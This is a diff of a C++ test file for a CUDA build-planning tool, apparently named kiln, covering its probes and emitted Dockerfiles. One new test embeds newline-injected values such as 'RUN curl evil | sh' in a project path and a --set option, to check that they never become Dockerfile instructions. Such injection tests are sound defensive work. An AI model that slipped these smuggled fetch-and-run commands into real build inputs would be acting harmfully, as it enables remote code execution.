@@ -3,7 +3,9 @@
 
 #include <algorithm>
 #include <sstream>
+#include <nlohmann/json.hpp>
 
+#include "io/isolated_python.hpp"
 #include "plan/emit.hpp"
 #include "plan/make_plan.hpp"
 #include "probe/externally_managed.hpp"
@@ -30,7 +32,8 @@ struct Harness : kiln::testing::FakeSeams {
     proc.on("/usr/local/cuda/bin/nvcc --version", io::ran("Cuda compilation tools, release 13.0, V13.0.88\n"));
     proc.on("/usr/local/cuda/bin/nvcc --list-gpu-code", io::ran("sm_75 sm_80 sm_86 sm_89 sm_90 sm_100 sm_120\n"));
     proc.on("/usr/local/cuda/bin/nvcc --list-gpu-arch", io::ran(""));
-    proc.on(std::string("/usr/bin/python3 -c ") + read::torch_find_spec_script(), io::ran("/site/torch\n"));
+    proc.on(io::isolated_python_line("/usr/bin/python3", read::torch_find_spec_script(), io::PythonSite::needed),
+            io::ran("/site/torch\n"));
     machine.cores = 32;
     machine.mem_total = machine.mem_available = 64ULL << 30;
   }
@@ -157,7 +160,8 @@ TEST(PythonPlan, ExtensionUsesCcacheThroughCxxAndPytorchNvcc) {
 TEST(PythonPlan, ExtensionWithoutTorchIsRefusedUpFront) {
   Harness h;
   h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension");
-  h.proc.on(std::string("/usr/bin/python3 -c ") + read::torch_find_spec_script(), io::ran(""));
+  h.proc.on(io::isolated_python_line("/usr/bin/python3", read::torch_find_spec_script(), io::PythonSite::needed),
+            io::ran(""));
   auto p = h.plan("/ext", {.gpus = {"h100"}});
   ASSERT_FALSE(p);
   EXPECT_FALSE(p.error().usage);  // exit 1: the environment lacks something
@@ -176,7 +180,7 @@ TEST(PythonPlan, ExtensionWithoutTorchIsRefusedUpFront) {
 TEST(PythonPlan, ExternallyManagedPythonIsRefusedUpFront) {
   Harness h;
   h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension");
-  h.proc.on(std::string("/usr/bin/python3 -I -c ") + probe::externally_managed_script(),
+  h.proc.on(io::isolated_python_line("/usr/bin/python3", probe::externally_managed_script(), io::PythonSite::needed),
             io::ran("/usr/lib/python3.11/EXTERNALLY-MANAGED\n"));
   auto p = h.plan("/ext", {.gpus = {"h100"}});
   ASSERT_FALSE(p);
@@ -288,7 +292,8 @@ TEST(Emit, EnvCmakeAndDockerfile) {
   auto docker = plan::emit_dockerfile(p);
   EXPECT_NE(docker.find("AS build"), std::string::npos);
   EXPECT_NE(docker.find("AS runtime"), std::string::npos);
-  EXPECT_NE(docker.find("RUN kiln verify /opt/app --gpu 'H100 SXM'"), std::string::npos) << docker;
+  EXPECT_NE(docker.find("RUN [\"kiln\", \"verify\", \"/opt/app\", \"--gpu\", \"H100 SXM\"]"), std::string::npos)
+      << docker;
   EXPECT_FALSE(plan::emit(p, "yaml"));
 }
 
@@ -299,6 +304,18 @@ std::string kiln_build_args(const std::string& text, const std::string& start, c
   if (at == std::string::npos) return "";
   at += start.size() + dir_and_fixed.size();
   return text.substr(at, text.find('\n', at) - at);
+}
+// The words of the Dockerfile's `kiln build` line (exec form: a JSON array) after the fixed ones.
+std::vector<std::string> docker_build_args(const std::string& docker) {
+  const std::string start = "RUN --mount=type=cache,target=/root/.cache/ccache ";
+  auto at = docker.find(start);
+  if (at == std::string::npos) return {};
+  at += start.size();
+  auto words = nlohmann::json::parse(docker.substr(at, docker.find('\n', at) - at)).get<std::vector<std::string>>();
+  const std::vector<std::string> fixed{
+      "kiln", "build", "/src", "--build-dir", "/src/build-kiln", "--cache-dir", "/root/.cache/ccache"};
+  if (words.size() < fixed.size() || !std::equal(fixed.begin(), fixed.end(), words.begin())) return {"?"};
+  return {words.begin() + static_cast<long>(fixed.size()), words.end()};
 }
 }  // namespace
 
@@ -321,15 +338,15 @@ TEST(Emit, DockerfileBuildsWithTheOptionsThatShapedThePlan) {
   const auto env = plan::emit_env(p);
   const auto docker = plan::emit_dockerfile(p);
   const std::string env_args = kiln_build_args(env, "# kiln build ", "/cm");
-  const std::string docker_args =
-      kiln_build_args(docker, "RUN --mount=type=cache,target=/root/.cache/ccache kiln build ",
-                      "/src --build-dir /src/build-kiln --cache-dir /root/.cache/ccache");
   ASSERT_FALSE(env_args.empty()) << env;
   EXPECT_EQ(env_args,
             " --gpu h100 --gpu a100 --jobs 3 --build-dir /tmp/out --cache-dir /home/u/cc -D MT_FAST=ON -D "
             "MT_DATA=/cm/data -D MT_SDK=/opt/sdk --prune-archs");
   // The same list, with the project's path moved to /src and this machine's paths left out, each said.
-  EXPECT_EQ(docker_args, " --gpu h100 --gpu a100 --jobs 3 -D MT_FAST=ON -D MT_DATA=/src/data --prune-archs") << docker;
+  EXPECT_EQ(docker_build_args(docker),
+            (std::vector<std::string>{"--gpu", "h100", "--gpu", "a100", "--jobs", "3", "-D", "MT_FAST=ON", "-D",
+                                      "MT_DATA=/src/data", "--prune-archs"}))
+      << docker;
   for (const char* said : {"--build-dir /tmp/out", "--cache-dir /home/u/cc", "-D MT_SDK=/opt/sdk"})
     EXPECT_NE(docker.find(std::string("# left out, a path on this machine: ") + said), std::string::npos) << said;
 }
@@ -341,9 +358,51 @@ TEST(Emit, DockerfilePinsTargetsThisMachineChose) {
   h.env.set("CUDAARCHS", "80-real;90-real");
   auto p = h.plan("/cm", {}).value();
   ASSERT_EQ(p.arch_source, "CUDAARCHS");
-  EXPECT_EQ(kiln_build_args(plan::emit_dockerfile(p), "kiln build ",
-                            "/src --build-dir /src/build-kiln --cache-dir /root/.cache/ccache"),
-            " --archs '80-real;90-real' --from cmake");
+  EXPECT_EQ(docker_build_args(plan::emit_dockerfile(p)),
+            (std::vector<std::string>{"--archs", "80-real;90-real", "--from", "cmake"}));
+}
+
+// A newline in the project's path or a --set value must not start a Dockerfile instruction (issue 34,
+// case 9): comments are one line, arguments are JSON strings in exec-form RUNs.
+TEST(Emit, DockerfileValuesNeverStartAnInstruction) {
+  Harness h;
+  h.fs.add_file("/c\nRUN curl evil | sh\n/CMakeLists.txt", "");
+  auto p = h.plan("/c\nRUN curl evil | sh\n", {.gpus = {"h100"}, .sets = {"MT=1\nRUN curl evil2 | sh"}});
+  ASSERT_TRUE(p) << p.error().message;
+  const auto docker = plan::emit_dockerfile(*p);
+  std::istringstream lines(docker);
+  for (std::string line; std::getline(lines, line);) {
+    EXPECT_NE(line.rfind("RUN curl", 0), 0u) << line;
+    if (line.empty() || line[0] == '#') continue;
+    const auto word = line.substr(0, line.find(' '));
+    EXPECT_TRUE(word == "FROM" || word == "RUN" || word == "COPY" || word == "WORKDIR" || word == "ENV" ||
+                word == "ARG")
+        << line;
+  }
+  EXPECT_NE(docker.find("MT=1\\nRUN curl evil2 | sh\""), std::string::npos) << docker;
+}
+
+// A torch extension's image (issue 33's item, owned by 34): the build stage installs the project's
+// torch and builds the wheel, the runtime stage installs that wheel and verifies it; nothing is
+// allowed to fail quietly (`|| true`).
+TEST(Emit, DockerfileBuildsAndInstallsATorchExtensionsWheel) {
+  Harness h;
+  h.fs.add_file("/ext/setup.py", "from torch.utils.cpp_extension import CUDAExtension\nCUDAExtension('m', ['m.cu'])\n");
+  auto p = h.plan("/ext", {.gpus = {"h100"}}).value();
+  ASSERT_EQ(p.kind, read::ProjectKind::extension);
+  const auto docker = plan::emit_dockerfile(p);
+  EXPECT_EQ(docker.find("|| true"), std::string::npos) << docker;
+  const auto runtime = docker.find("AS runtime");
+  ASSERT_NE(runtime, std::string::npos) << docker;
+  const auto torch = docker.find("\"pip\", \"install\", \"--no-cache-dir\", \"torch");
+  ASSERT_NE(torch, std::string::npos) << docker;
+  EXPECT_LT(torch, runtime);  // the build stage has torch
+  EXPECT_LT(docker.find("cp /src/build-kiln/wheel/*.whl /opt/wheel/"), runtime) << docker;
+  EXPECT_GT(docker.find("pip install --no-cache-dir --no-deps /opt/wheel/*.whl"), runtime) << docker;
+  EXPECT_GT(docker.find("[\"kiln\", \"verify\", \"/opt/venv/lib\", \"--gpu\", \"H100 SXM\"]"), runtime) << docker;
+  // The context is the project planned, wherever kiln ran from.
+  EXPECT_NE(docker.find("# Build it with: docker build --build-context kiln="), std::string::npos);
+  EXPECT_NE(docker.find("-f Dockerfile /ext\n"), std::string::npos) << docker;
 }
 
 // `kiln plan --emit env` is for the user's own build in a plain shell: nothing it exports may name
